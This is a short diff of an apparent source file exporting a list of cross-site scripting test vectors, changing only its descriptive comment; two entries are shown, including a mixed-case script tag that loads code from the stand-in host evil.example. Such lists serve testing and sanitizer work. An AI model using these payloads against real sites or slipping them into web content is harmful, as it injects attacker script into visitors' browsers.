@@ -1,4 +1,4 @@
-/** Ways in which a text becomes a script: parsers' quirks, schemes, handlers, other languages. */
+/** Attempts to run a script from text: parser quirks, URL schemes, event handlers, SVG and other markup. */
 export const xssVectors = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
